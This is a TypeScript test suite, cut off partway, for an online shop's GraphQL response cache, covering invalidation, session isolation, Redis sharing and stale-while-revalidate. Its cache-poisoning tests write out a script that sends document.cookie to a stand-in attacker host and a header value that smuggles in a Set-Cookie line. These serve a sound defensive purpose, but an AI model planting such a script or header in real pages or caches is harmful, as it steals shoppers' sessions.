// Issue 10, the response cache (docs/decisions/0016): anonymous catalog queries are answered from the
// cache; a price changed through the shop, or by any other process, is visible on the next request;
// a shopper with a session never gets, nor leaves, an answer that read a session (pages for session
// holders: response-cache-sessions.test.ts, decision 0043); mutations are never cached; two
// instances on one database share answers and invalidations through Redis; stale-while-revalidate.
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createHash, randomInt, randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import { gzipSync } from 'node:zlib';
import { connect, createServer as createNetServer, type AddressInfo, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import express from 'express';
import pg from 'pg';
import { createTestApp, type TestApp } from '../support/test-app.ts';
import { createCategory, createProduct } from '../support/factories.ts';
import { createResponseCache } from '../../bff/src/cache/response-cache.ts';
import { cacheKeyOf } from '../../bff/src/cache/cache-key.ts';
import { createRedisClient, type RedisClient } from '../../bff/src/redis.ts';
import { answerDeclarationOf } from '../../bff/src/cache/graphql-operation.ts';
import { schema } from '../../bff/src/graphql/schema/index.ts';
import { createChangeFeed } from '../../bff/src/events/change-feed.ts';
import { inTransaction } from '../../bff/src/events/record.ts';
import { deliverWebhooks } from '../../bff/src/jobs/webhook-deliveries.ts';
import { operationHashes } from '../../web/app/gql/operation-hashes.ts';
import { currencyOfCookies } from '../../schema/rules/cookies.ts';
import { requestCurrency } from '../../bff/src/graphql/server/yoga.ts';
import { RATE_RULES } from '../../bff/src/rate-limit/rate-limit.ts';

const REDIS_URL = process.env.TEST_REDIS_URL ?? 'redis://127.0.0.1:6379';

const LIST = '{ products(first: 12, filter: { categorySlug: "cache-dresy" }) { totalCount edges { node { name price { withVat } } } } }';
const PRODUCT = 'query CacheProduct($slug: String!) { product(slug: $slug) { name price { withVat } } }';
const LAYOUT = '{ categories { name } cart { itemCount } me { id } }';
const VISITOR = 'query CacheVisitor($slug: String!) { product(slug: $slug) { name inWishlist } }';

let app: TestApp;
let variantId: number;
let productSlug: string;

async function post(target: { url: string }, body: object, headers: Record<string, string> = {}) {
  const response = await fetch(`${target.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  });
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- answers of several shapes, read by path
  const json = (await response.json()) as { data?: any; errors?: unknown };
  return { cache: response.headers.get('x-cache'), json };
}

beforeAll(async () => {
  app = await createTestApp({ config: { responseCache: true } });
  const category = await createCategory(app.prisma, { slug: { cs: 'cache-dresy', en: 'cache-jerseys' } });
  const product = await createProduct(app.prisma, { category, variants: [{ stock: 5, priceCzk: 100_000 }] });
  for (let i = 0; i < 3; i += 1) await createProduct(app.prisma, { category, variants: [{ stock: 5, priceCzk: 200_000 }] });
  variantId = product.variants[0].id;
  productSlug = (await app.prisma.productTranslation.findFirstOrThrow({ where: { productId: product.id, language: 'cs' } })).slug;
  await app.changes.polled(); // the version poll has seen the factories' writes
});

afterAll(async () => {
  await app?.close();
});

describe('response cache', () => {
  it('answers a repeated anonymous catalog query from the cache, with the same data', async () => {
    const first = await post(app, { query: LIST });
    expect(first.cache).toBe('MISS');
    expect(first.json.data.products.totalCount).toBe(4);
    const second = await post(app, { query: LIST });
    expect(second.cache).toBe('HIT');
    expect(second.json).toEqual(first.json);
    // another language is another answer
    const english = await post(app, { query: LIST }, { 'x-shop-language': 'en' });
    expect(english.cache).toBe('MISS');
  });

  it('a cached answer goes out compressed as the browser asks, compressed once for all its hits', async () => {
    const ask = (encoding: string) =>
      fetch(`${app.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'accept-encoding': encoding },
        // above the 1 KiB below which nothing is compressed
        body: JSON.stringify({ query: `{ ${['a', 'b', 'c', 'd', 'e'].map((alias) => `${alias}: ${LIST.slice(2, -2)}`).join(' ')} }` }),
      });
    const plain = await ask('identity');
    expect(plain.headers.get('content-encoding')).toBeNull();
    const expected = await plain.json();
    expect(JSON.stringify(expected).length).toBeGreaterThan(1024);
    const before = app.responseCacheStats!.compressed;
    for (const encoding of ['br', 'gzip', 'br', 'gzip']) {
      const response = await ask(encoding);
      expect([response.headers.get('x-cache'), response.headers.get('content-encoding')]).toEqual(['HIT', encoding]);
      expect(response.headers.get('vary')).toMatch(/accept-encoding/i);
      expect(await response.json()).toEqual(expected); // fetch decompresses
    }
    expect(app.responseCacheStats!.compressed - before).toBe(2); // once per encoding
  });

  it('a hit, answered before the app, carries the headers every response carries', async () => {
    const query = `query CacheHeaders ${LIST}`;
    const ask = (headers: Record<string, string> = {}) =>
      fetch(`${app.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query }) });
    const rendered = await ask();
    const hit = await ask({ 'x-request-id': 'proxy-42' });
    expect([rendered.headers.get('x-cache'), hit.headers.get('x-cache')]).toEqual(['MISS', 'HIT']);
    expect(hit.headers.get('x-request-id')).toBe('proxy-42');
    for (const name of ['content-security-policy', 'x-content-type-options', 'referrer-policy', 'x-frame-options', 'permissions-policy', 'content-type', 'vary']) {
      expect([name, hit.headers.get(name)?.replace(/'nonce-[^']+'/, 'N')]).toEqual([name, rendered.headers.get(name)?.replace(/'nonce-[^']+'/, 'N')]);
    }
    expect(await hit.json()).toEqual(await rendered.json());
  });

  it('a body sent compressed or in chunks is read by the app and answered; another origin is refused as before', async () => {
    const body = JSON.stringify({ query: LIST });
    const expected = (await post(app, { query: LIST })).json;
    const gzipped = await fetch(`${app.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: gzipSync(body),
    });
    expect(await gzipped.json()).toEqual(expected);
    const chunked = await fetch(`${app.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      // a stream: sent chunked, without a Content-Length
      body: new ReadableStream({
        start(controller) {
          controller.enqueue(new TextEncoder().encode(body.slice(0, 10)));
          controller.enqueue(new TextEncoder().encode(body.slice(10)));
          controller.close();
        },
      }),
      duplex: 'half',
    } as RequestInit);
    expect(await chunked.json()).toEqual(expected);
    // the app's origin check still applies to an answer the cache holds
    const foreign = await post(app, { query: LIST }, { origin: 'https://elsewhere.example' });
    expect(foreign.json.errors).toEqual([expect.objectContaining({ extensions: { code: 'CROSS_ORIGIN' } })]);
  });

  it("a round of the webhook sender with nothing to send keeps the cached answers (it dropped every instance's cache every 5 s: fault suite finding (d))", async () => {
    const query = { query: PRODUCT, variables: { slug: productSlug, webhooks: 'none due' } };
    expect((await post(app, query)).cache).toBe('MISS');
    expect((await post(app, query)).cache).toBe('HIT');
    // its claim is an UPDATE of WebhookDelivery whether a delivery is due or not
    const quiet = { info: () => undefined, error: () => undefined };
    expect(await deliverWebhooks({ db: app.prisma, policy: { allowHosts: [] }, log: quiet })).toEqual({ delivered: 0, retrying: 0, failed: 0, disabledEndpoints: 0 });
    expect((await post(app, query)).cache).toBe('HIT');
  });

  it('a price changed through the shop (recorded as its event) is visible on the next request', async () => {
    const before = await post(app, { query: PRODUCT, variables: { slug: productSlug } });
    expect(before.json.data.product.price.withVat).toBe(100_000);
    expect((await post(app, { query: PRODUCT, variables: { slug: productSlug } })).cache).toBe('HIT');
    await inTransaction(app.prisma, async (tx, changes) => {
      const variant = await tx.variant.update({ where: { id: variantId }, data: { priceCzk: 90_000 } });
      changes.record({ kind: 'PriceChanged', productIds: [variant.productId] });
    });
    // the touched answer is served once more as it was (STALE) while one render refreshes it (decision
    // 0056), and the refreshed one is served from then on
    const next = await post(app, { query: PRODUCT, variables: { slug: productSlug } });
    expect(next.cache).toBe('STALE');
    await vi.waitFor(
      async () => {
        const after = await post(app, { query: PRODUCT, variables: { slug: productSlug } });
        expect(after.json.data.product.price.withVat).toBe(90_000);
        expect(after.cache).toBe('HIT');
      },
      { timeout: 1_000, interval: 20 },
    );
  });

  it('a change made by another process (a database trigger) is seen within the poll interval', async () => {
    // the trigger of the previous test's own write is seen by the poll too: let it pass, then cache again
    await app.changes.polled();
    await post(app, { query: PRODUCT, variables: { slug: productSlug } });
    expect((await post(app, { query: PRODUCT, variables: { slug: productSlug } })).cache).toBe('HIT');
    const other = new pg.Client({ connectionString: app.databaseUrl });
    await other.connect();
    try {
      await other.query('UPDATE "Variant" SET "priceCzk" = 80000 WHERE id = $1', [variantId]);
    } finally {
      await other.end();
    }
    await app.changes.polled();
    const after = await post(app, { query: PRODUCT, variables: { slug: productSlug } });
    expect(after.cache).toBe('MISS');
    expect(after.json.data.product.price.withVat).toBe(80_000);
  });

  it('two sessions: an answer that read the session is never shared, a catalog answer is', async () => {
    // cart and me are declared personal: their answer is never stored, not even one made without cookies
    const anonymous = await post(app, { query: LAYOUT });
    expect(anonymous.json.data.cart).toBeNull();
    expect((await post(app, { query: LAYOUT })).cache).toBe('MISS');

    const alice = app.newClient();
    const added = await alice.gql('mutation CacheAdd($id: ID!) { addToCart(variantId: $id) { __typename } }', {
      id: (await app.gql<{ product: { variants: { id: string }[] } }>(
        'query CacheVariant($slug: String!) { product(slug: $slug) { variants { id } } }',
        { slug: productSlug },
      )).data!.product.variants[0].id,
    });
    expect(added.errors).toBeUndefined();
    // the anonymous answer (no cart) is not hers, and hers is never stored
    for (let i = 0; i < 2; i += 1) {
      const alicesLayout = await alice.gql<{ cart: { itemCount: number } | null }>(LAYOUT);
      expect(alicesLayout.headers.get('x-cache')).toBe('MISS');
      expect(alicesLayout.data!.cart!.itemCount).toBe(1);
    }

    // Bob, another session, sees his own (empty) cart, never Alice's
    const bob = app.newClient();
    await bob.ensureCsrfCookie();
    const bobsLayout = await bob.gql<{ cart: { itemCount: number } | null }>(LAYOUT);
    expect(bobsLayout.headers.get('x-cache')).toBe('MISS');
    expect(bobsLayout.data!.cart?.itemCount ?? 0).toBe(0);
    // and an anonymous visitor still gets the anonymous answer
    const again = await post(app, { query: LAYOUT });
    expect(again.json.data.cart).toBeNull();
    expect(again.json.data.me).toBeNull();

    // A catalog query reads nobody's session: the anonymous answer serves Alice ...
    const list = await post(app, { query: LIST });
    const alicesList = await alice.gql(LIST);
    expect(alicesList.headers.get('x-cache')).toBe('HIT');
    expect({ data: alicesList.data }).toEqual(list.json);
    // ... and one Bob's request rendered serves everyone else
    const english = { query: PRODUCT, variables: { slug: productSlug } };
    const bobsProduct = await bob.gql(PRODUCT, english.variables, { 'x-shop-language': 'en' });
    expect(bobsProduct.headers.get('x-cache')).toBe('MISS');
    const anonymousProduct = await post(app, english, { 'x-shop-language': 'en' });
    expect(anonymousProduct.cache).toBe('HIT');
    expect(anonymousProduct.json).toEqual({ data: bobsProduct.data });
    // a query that asks for the catalog and the cart together is hers alone
    const mixed = `{ products(first: 1) { totalCount } cart { itemCount } }`;
    expect((await alice.gql(mixed)).headers.get('x-cache')).toBe('MISS');
    expect((await bob.gql(mixed)).headers.get('x-cache')).toBe('MISS');
  });

  it("the web's catalog queries ask nothing of the shopper: a session is served the answer another rendered", async () => {
    // the hearts come from the layout's wishlist summary, not from Product.inWishlist in these lists
    const category = await app.prisma.categoryTranslation.findFirstOrThrow({ where: { slug: 'cache-dresy' } });
    const persisted = (operationName: keyof typeof operationHashes, variables: object) => ({
      operationName,
      variables,
      extensions: { persistedQuery: { version: 1, sha256Hash: operationHashes[operationName] } },
    });
    const carol = app.newClient();
    await carol.ensureCsrfCookie();
    for (const body of [
      persisted('CategoryPage', { slug: category.slug, first: 12, offset: 0, filter: {}, sort: 'BEST_SELLING' }),
      persisted('SearchPage', { first: 12, offset: 0, filter: { search: 'dres' }, sort: 'BEST_SELLING' }),
      persisted('ProductPage', { slug: productSlug }),
    ]) {
      const anonymous = await post(app, body);
      expect(anonymous.json.errors).toBeUndefined();
      const response = await carol.fetch('/graphql', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-xsrf-token': await carol.ensureCsrfCookie() },
        body: JSON.stringify(body),
      });
      expect([body.operationName, response.headers.get('x-cache')]).toEqual([body.operationName, 'HIT']);
      expect(await response.json()).toEqual(anonymous.json);
    }
  });

  it('never stores an answer of a field declared personal, such as an order opened by its link, even beside a public field', async () => {
    // no change of orders or wishlists purges the cache, so such an answer could go stale
    for (const query of [
      '{ order(databaseId: 1, hash: "0123456789abcdef") { status } }',
      '{ sharedWishlist(token: "abcdefghijklmnopqrstuvwxyz012345") { itemCount } }',
      '{ categories { name } order(databaseId: 1, hash: "0123456789abcdef") { status } }',
    ]) {
      const first = await post(app, { query });
      const second = await post(app, { query });
      expect(first.json.errors).toBeUndefined();
      expect([first.cache, second.cache]).toEqual(['MISS', 'MISS']);
    }
    expect([answerDeclarationOf(schema, 'order'), answerDeclarationOf(schema, 'sharedWishlist'), answerDeclarationOf(schema, 'categories')]).toEqual(['personal', 'personal', 'public']);
  });

  it('never caches a captcha challenge: each is good once', async () => {
    const query = { query: '{ captchaChallenge(action: NEWSLETTER) { challenge } }' };
    const first = await post(app, query);
    const second = await post(app, query);
    expect([first.cache, second.cache]).toEqual(['MISS', 'MISS']);
    expect(second.json.data.captchaChallenge.challenge).not.toBe(first.json.data.captchaChallenge.challenge);
  });

  it("never caches a mutation, an answer with errors, or a partner's or the public explorer's request; other cookies share catalog answers", async () => {
    const mutation = { query: 'mutation CacheNewsletter { __typename }' };
    await post(app, mutation);
    expect((await post(app, mutation)).cache).toBe('MISS');
    const broken = { query: '{ product(slug: 5) { name } }' };
    await post(app, broken);
    expect((await post(app, broken)).cache).toBe('MISS');
    await post(app, { query: LIST });
    expect((await post(app, { query: LIST }, { cookie: 'consent=all' })).cache).toBe('HIT');
    expect((await post(app, { query: LAYOUT }, { cookie: 'consent=all' })).cache).toBe('MISS');
    expect((await post(app, { query: LIST }, { authorization: 'Bearer shp_x' })).cache).toBeNull();
    // nor the public explorer's (decision 0038): its requests are counted and scoped by the app
    expect((await post(app, { query: LIST }, { 'x-shop-explorer': 'public' })).cache).toBeNull();
    // lang and currency cookies are part of the key
    const euro = await post(app, { query: PRODUCT, variables: { slug: productSlug } }, { cookie: 'currency=EUR' });
    expect(euro.json.data.product.price.withVat).not.toBe(80_000);
  });
});

describe('what a change is', () => {
  const feed = { databaseReachable: true };
  const withRedis = (prefix: string, redisUrl = REDIS_URL) => createResponseCache({ feed, redisUrl, signingKey: 'test-signing-key', keyPrefix: prefix });

  it('with Redis, a purge of all made here moves the shared generation once; one made elsewhere only drops memory; a purge of tags leaves the generation', async () => {
    const prefix = `test:rc:${randomUUID()}:`;
    const first = withRedis(prefix);
    const second = withRedis(prefix);
    const redis = createRedisClient({ url: REDIS_URL });
    await redis.connect();
    try {
      await Promise.all([first.ready(), second.ready()]);
      const before = [first.generation, second.generation];
      void first.purge({ all: true }, 'here');
      void second.purge({ all: true }, 'elsewhere');
      await vi.waitFor(async () => expect(await redis.get(`${prefix}generation`)).toBe('1'), { timeout: 5_000, interval: 20 });
      await sleep(100);
      expect(await redis.get(`${prefix}generation`)).toBe('1');
      expect([first.generation, second.generation]).toEqual([before[0] + 1, before[1] + 1]);
      // a purge of tags is the tagged cache's own (per answer): the generation stays, and so does Redis';
      // only the counter the personal answers drop at moves
      const changes = first.changes;
      void first.purge({ tags: ['product:1'] }, 'here');
      await sleep(100);
      expect(first.generation).toBe(before[0] + 1);
      expect(first.changes).toBe(changes + 1);
      expect(await redis.get(`${prefix}generation`)).toBe('1');
    } finally {
      await first.close();
      await second.close();
      await redis.del([`${prefix}generation`, `${prefix}purges`, `${prefix}tag:product:1`]);
      await redis.quit();
    }
  });

  it('a change made while Redis is away moves the shared generation once Redis is back (its entries from before are not served again)', async () => {
    const prefix = `test:rc:${randomUUID()}:`;
    const proxy = await cuttableProxy(new URL(REDIS_URL));
    const cache = withRedis(prefix, `redis://127.0.0.1:${proxy.port}`);
    const redis = createRedisClient({ url: REDIS_URL });
    await redis.connect();
    try {
      await cache.ready();
      await proxy.cut();
      await cache.purge({ all: true }, 'here');
      await sleep(200);
      expect(await redis.get(`${prefix}generation`)).toBeNull();
      await proxy.restore();
      await vi.waitFor(async () => expect(await redis.get(`${prefix}generation`)).toBe('1'), { timeout: 10_000, interval: 50 });
    } finally {
      await cache.close();
      await proxy.cut();
      await redis.del([`${prefix}generation`]);
      await redis.quit();
    }
  });

  it('keys pages and queries by language, currency and (pages) the consent choice; marks a request with other cookies as identified', () => {
    const page = (cookie?: string) =>
      ({ method: 'GET', path: '/kategorie/dresy', baseUrl: '', originalUrl: '/kategorie/dresy', headers: cookie ? { cookie } : {} }) as never;
    expect(cacheKeyOf(page())).toEqual({ key: expect.any(String), identified: false });
    expect(cacheKeyOf(page('lang=en; currency=EUR'))!.key).not.toBe(cacheKeyOf(page())!.key);
    // the session, the CSRF token, the header's hint are not part of the key (decision 0043)
    expect(cacheKeyOf(page('sid=s%3Aabc'))).toEqual({ key: cacheKeyOf(page())!.key, identified: true });
    expect(cacheKeyOf(page('lang=en; XSRF-TOKEN=x; shopper_hint=1.3.120000.CZK.0.1'))).toEqual({ key: cacheKeyOf(page('lang=en'))!.key, identified: true });
    // the consent choice is (the bar, the tags), but not the browser's consent id or date
    const consent = (flags: string, id: string) => `consent=${encodeURIComponent(['2026-11-22', '2026-11-25T10:00:00.000Z', flags, id].join('|'))}`;
    const first = consent('100', '0b6a3f4e-1d2c-4a5b-8c7d-9e0f1a2b3c4d');
    expect(cacheKeyOf(page(first))!.key).not.toBe(cacheKeyOf(page())!.key);
    expect(cacheKeyOf(page(first))!.key).not.toBe(cacheKeyOf(page(consent('111', '0b6a3f4e-1d2c-4a5b-8c7d-9e0f1a2b3c4d')))!.key);
    expect(cacheKeyOf(page(`sid=x; ${first}`))!.key).toBe(cacheKeyOf(page(consent('100', '1c7b4f5e-2d3c-4b6c-9d8e-0f1a2b3c4d5e')))!.key);
    const query = (cookie?: string) =>
      ({
        method: 'POST',
        path: '/graphql',
        baseUrl: '',
        originalUrl: '/graphql',
        headers: cookie ? { cookie } : {},
        body: Buffer.from('{"query":"{ categories { name } }"}'),
      }) as never;
    expect(cacheKeyOf(query())).toEqual({ key: expect.any(String), identified: false });
    // the session is not part of the key: the same key, marked, for every session
    expect(cacheKeyOf(query('sid=s%3Aabc; lang=en'))).toEqual({ key: cacheKeyOf(query('lang=en; sid=s%3Axyz'))!.key, identified: true });
    expect(cacheKeyOf(query('lang=en'))!.key).not.toBe(cacheKeyOf(query())!.key);
  });

  it('keys odd currency cookies as the currency the page shows and the API prices in', () => {
    const page = (cookie: string) =>
      ({ method: 'GET', path: '/kategorie/dresy', baseUrl: '', originalUrl: '/kategorie/dresy', headers: { cookie } }) as never;
    const plain = { EUR: cacheKeyOf(page('currency=EUR'))!.key, CZK: cacheKeyOf(page('currency=CZK'))!.key };
    expect(plain.EUR).not.toBe(plain.CZK);
    const odd = ['currency =EUR', ' currency=EUR', 'currency= EUR ', 'currency=%45UR', 'currency=EUR; currency=CZK', 'currency=CZK; currency=EUR', 'currency="EUR"'];
    odd.push('currency=eur', 'currency=E%ZZ', 'currency', ';currency=EUR;', 'lang=cs; currency =EUR', 'lang=xx; currency=EUR');
    for (const cookie of odd) {
      // the root loader's reading (the header's currency switch) and the API's (the prices)
      const shown = currencyOfCookies(cookie);
      expect(requestCurrency({ headers: { cookie } } as never), cookie).toBe(shown);
      expect(cacheKeyOf(page(cookie))!.key, cookie).toBe(plain[shown]);
    }
    expect(currencyOfCookies('currency =EUR')).toBe('EUR');
    expect(currencyOfCookies('currency=CZK; currency=EUR')).toBe('CZK');
    // another name (names are case-sensitive) is another cookie: such a request gets only answers for anyone
    expect(cacheKeyOf(page('Currency=EUR'))).toEqual({ key: plain.CZK, identified: true });
  });
});

describe('two instances on one database, through Redis', () => {
  let second: TestApp;
  let redis: RedisClient;
  // the instances' keys (createApp: a prefix from the database URL; other runs' keys may still be there)
  let prefix: string;

  // the answers, not their tag lists (`<prefix>tags:<key>`) or the counters
  const answerKeys = async () => (await redis.keys(`${prefix}*`)).filter((name) => !name.startsWith(`${prefix}tags:`));
  /** Waits until an instance's answer to `body` is in Redis (stored there in the background). */
  const sharedInRedis = (body: object) =>
    vi.waitFor(async () => expect((await redis.keys(`${prefix}*`)).some((key) => key.endsWith(`\n${JSON.stringify(body)}`))).toBe(true), {
      timeout: 10_000,
      interval: 20,
    });

  beforeAll(async () => {
    await app.close();
    app = await createTestApp({ config: { responseCache: true, redisUrl: REDIS_URL } });
    const category = await createCategory(app.prisma, { slug: { cs: 'cache-dresy', en: 'cache-jerseys' } });
    const product = await createProduct(app.prisma, { category, variants: [{ stock: 5, priceCzk: 100_000 }] });
    variantId = product.variants[0].id;
    productSlug = (await app.prisma.productTranslation.findFirstOrThrow({ where: { productId: product.id, language: 'cs' } })).slug;
    second = await createTestApp({ databaseUrl: app.databaseUrl, config: { responseCache: true, redisUrl: REDIS_URL } });
    prefix = `shop:rc:${createHash('sha256').update(app.databaseUrl).digest('hex').slice(0, 16)}:`;
    redis = createRedisClient({ url: REDIS_URL });
    await redis.connect();
    // both connected and subscribed, and the first one's poll has seen the factories' writes
    await Promise.all([app.cachesReady(), second.cachesReady(), app.changes.polled()]);
  });

  afterAll(async () => {
    await redis?.quit();
    await second?.close();
  });

  it("through Redis too, a shopper with a session gets another instance's catalog answer, never its answer about a visitor", async () => {
    const catalog = { query: PRODUCT, variables: { slug: productSlug, instances: 2 } };
    // a public field that reads the visitor (Product.inWishlist): stored from a request without cookies only
    const layout = { query: VISITOR, variables: { slug: productSlug, instances: 2 } };
    expect((await post(app, catalog)).cache).toBe('MISS');
    expect((await post(app, layout)).cache).toBe('MISS');
    await sharedInRedis(catalog);
    await sharedInRedis(layout);
    const shopper = second.newClient();
    const fromSecond = await shopper.gql(PRODUCT, { ...catalog.variables });
    expect(fromSecond.headers.get('x-cache')).toBe('HIT');
    expect(fromSecond.data).toEqual((await post(app, catalog)).json.data);
    // the layout read the (absent) session on the first instance: never served to her from Redis
    expect((await shopper.gql(VISITOR, { ...layout.variables })).headers.get('x-cache')).toBe('MISS');
    // while a visitor without cookies on the second instance gets it
    expect((await post(second, layout)).cache).toBe('HIT');
  });

  it('an entry in Redis that is not an answer this shop stores is ignored, never sent', async () => {
    const query = { query: PRODUCT, variables: { slug: productSlug, tampered: true } };
    const rendered = await post(app, query);
    expect(rendered.cache).toBe('MISS');
    await sharedInRedis(query);
    const [key, ...others] = (await answerKeys()).filter((name) => name.includes('tampered'));
    expect(others).toEqual([]);
    // the signature, a dot, the entry (the signature is tried in the next test)
    const raw = (await redis.get(key))!;
    const signature = raw.slice(0, raw.indexOf('.'));
    const entry = JSON.parse(raw.slice(signature.length + 1)) as { headers: Record<string, string> };
    // a header that would smuggle another header in (Node refuses to send it: the send would throw)
    await redis.set(key, `${signature}.${JSON.stringify({ ...entry, headers: { ...entry.headers, 'content-type': 'application/json\r\nSet-Cookie: sid=x' } })}`);
    const response = await fetch(`${second.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(query) });
    expect([response.status, response.headers.get('x-cache'), response.headers.get('set-cookie')]).toEqual([200, 'MISS', null]);
    expect(await response.json()).toEqual(rendered.json);
    // the second instance rendered and stored its own answer, and serves it in front of the app
    expect((await post(second, query)).cache).toBe('HIT');
  });

  it('an entry in Redis not signed by the shop for its key is neither served nor kept: the answer is rendered again (issue 40, item 8)', async () => {
    const forged = { query: PRODUCT, variables: { slug: productSlug, forged: true } };
    const moved = { query: PRODUCT, variables: { slug: productSlug, moved: true } };
    const rendered = await post(app, forged);
    await post(app, moved);
    await sharedInRedis(forged);
    await sharedInRedis(moved);
    const keys = await answerKeys();
    const [forgedKey, movedKey] = ['"forged"', '"moved"'].map((marker) => keys.find((name) => name.includes(marker))!);
    // a real entry under another key: the first query's answer for the second
    await redis.set(movedKey, (await redis.get(forgedKey))!);
    // whoever can write to Redis writes a page with a script, well-formed as the shop's entries are
    // (its nonce marked both ways: the placeholder of old and the field of now)
    const generation = (await redis.get(`${prefix}generation`)) ?? '0';
    const script = '<script nonce="\u0000nonce\u0000">fetch("https://evil.example/?" + document.cookie)</script>';
    const page = { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: script, nonce: '\u0000nonce\u0000', storedAt: Date.now(), generation: 0, sharedGeneration: generation, anyVisitor: true, purgeSeq: '0', tags: [] };
    await redis.set(forgedKey, JSON.stringify(page));

    const answer = await fetch(`${second.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(forged) });
    expect([answer.status, answer.headers.get('x-cache'), answer.headers.get('content-type')]).toEqual([200, 'MISS', 'application/json; charset=utf-8']);
    expect(await answer.json()).toEqual(rendered.json);
    expect((await post(second, moved)).cache).toBe('MISS');
    // each dropped and replaced by the answer rendered again, which the second instance now serves
    await vi.waitFor(async () => expect(await redis.get(forgedKey)).toMatch(/^[\w-]+\.\{"status":200/), { timeout: 10_000, interval: 20 });
    expect(await redis.get(forgedKey)).not.toContain('evil.example');
    expect((await post(second, forged)).cache).toBe('HIT');
    expect((await post(second, moved)).cache).toBe('HIT');
  });

  it("an answer that read the client's address (checkVoucher's limit) is stored for no one: each cookie-less client gets its own (issue 40, item 14)", async () => {
    const check = (code: string) => ({
      query: 'query CacheCheck($code: String!) { checkVoucher(code: $code) { __typename ... on VoucherError { problem } ... on ValidationError { fieldErrors { field } } } }',
      variables: { code },
    });
    const address = () => `10.${randomInt(256)}.${randomInt(256)}.${randomInt(256)}`;
    const [limited, fresh, other] = [address(), address(), address()];
    const code = `NIKDO-${randomUUID()}`;
    // one address uses up its checks without the captcha, then asks about the code: the captcha is asked for
    for (let i = 0; i < RATE_RULES.voucherCheckWithoutCaptcha.limit; i += 1) await post(app, check(`${code}-${i}`), { 'x-forwarded-for': limited });
    const refusal = { checkVoucher: { __typename: 'ValidationError', fieldErrors: [{ field: 'captcha' }] } };
    const notFound = { checkVoucher: { __typename: 'VoucherError', problem: 'NOT_FOUND' } };
    expect(await post(app, check(code), { 'x-forwarded-for': limited })).toEqual({ cache: 'MISS', json: { data: refusal } });
    // another address, on either instance, gets its own answer, and the limited one its refusal again
    expect(await post(app, check(code), { 'x-forwarded-for': fresh })).toEqual({ cache: 'MISS', json: { data: notFound } });
    expect(await post(second, check(code), { 'x-forwarded-for': other })).toEqual({ cache: 'MISS', json: { data: notFound } });
    expect(await post(second, check(code), { 'x-forwarded-for': limited })).toEqual({ cache: 'MISS', json: { data: refusal } });
    expect(await post(app, check(code), { 'x-forwarded-for': limited })).toEqual({ cache: 'MISS', json: { data: refusal } });
    expect((await redis.keys(`${prefix}*`)).filter((key) => key.includes(code))).toEqual([]);
  });

  it("an instance moves the shared generation when it sees a change, not at its next request: an answer shared after the change stays shared", async () => {
    const query = { query: PRODUCT, variables: { slug: productSlug, after: 'change' } };
    // a change through the first instance; the second hears of it and has no request meanwhile
    await app.prisma.variant.update({ where: { id: variantId }, data: { priceCzk: 100_000 } });
    // both have seen it: the first at once and at its next poll (the trigger), the second at its next poll at the latest
    await Promise.all([app.changes.polled(), second.changes.polled()]);
    expect((await post(app, query)).cache).toBe('MISS');
    await sharedInRedis(query);
    // each instance moves the shared state for a counter move it hears; the second may hear this one only
    // now (its poll came late on a busy machine): its move for the same counter value changes nothing
    const { rows } = await app.pool.query<{ moves: string }>(`SELECT (last_value - CASE WHEN is_called THEN 0 ELSE 1 END)::text AS moves FROM "response_cache_version"`);
    await second.purgeResponseCache!({ all: true, counter: Number(rows[0].moves) }, 'here');
    // the second instance's first request after the change is served what the first one shared
    const fromSecond = await post(second, query);
    expect(fromSecond.cache).toBe('HIT');
    expect(fromSecond.json.data.product.price.withVat).toBe(100_000);
  });

  it('an answer rendered by one instance is served by the other; a change through either is seen by both', async () => {
    const query = { query: PRODUCT, variables: { slug: productSlug } };
    expect((await post(app, query)).cache).toBe('MISS');
    await sharedInRedis(query);
    const fromSecond = await post(second, query);
    expect(fromSecond.cache).toBe('HIT');
    expect(fromSecond.json.data.product.price.withVat).toBe(100_000);

    const seen = app.responseCache!.generation;
    await second.prisma.variant.update({ where: { id: variantId }, data: { priceCzk: 70_000 } });
    // the publish reaches the first instance (or its poll sees the trigger's count)
    await vi.waitFor(() => expect(app.responseCache!.generation).toBeGreaterThan(seen), { timeout: 10_000, interval: 20 });
    const fromFirst = await post(app, query);
    expect(fromFirst.cache).toBe('MISS');
    expect(fromFirst.json.data.product.price.withVat).toBe(70_000);
  });
});

describe('stale-while-revalidate', () => {
  it('after the fresh time the old answer is served once more while a new one is rendered', async () => {
    let renders = 0;
    const feed = { databaseReachable: true };
    const cache = createResponseCache({ feed, freshMs: 500, staleMs: 10_000 });
    const server = express();
    server.use(cache.middleware);
    server.get('/page', (_req, res) => {
      renders += 1;
      res.type('html').send(`<p>render ${renders}</p>`);
    });
    const listening = createServer(server).listen(0, '127.0.0.1');
    await new Promise((resolve) => listening.once('listening', resolve));
    const url = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/page`;
    try {
      const get = async () => {
        const response = await fetch(url);
        return { cache: response.headers.get('x-cache'), text: await response.text() };
      };
      expect(await get()).toEqual({ cache: 'MISS', text: '<p>render 1</p>' });
      expect(await get()).toEqual({ cache: 'HIT', text: '<p>render 1</p>' });
      await sleep(600);
      expect(await get()).toEqual({ cache: 'STALE', text: '<p>render 1</p>' });
      await vi.waitFor(() => expect(cache.stats.stored).toBe(2), { timeout: 10_000, interval: 20 }); // the background render is kept
      expect(renders).toBe(2);
      expect(await get()).toEqual({ cache: 'HIT', text: '<p>render 2</p>' });
    } finally {
      listening.close();
      await cache.close();
    }
  });
});

describe('during a database outage (requirements F3, issue 31 finding 25)', () => {
  it('an answer past its stale time is still served while the database is away, with no background render; afresh once it is back', async () => {
    let renders = 0;
    const feed = { databaseReachable: true };
    const cache = createResponseCache({ feed, freshMs: 100, staleMs: 100 });
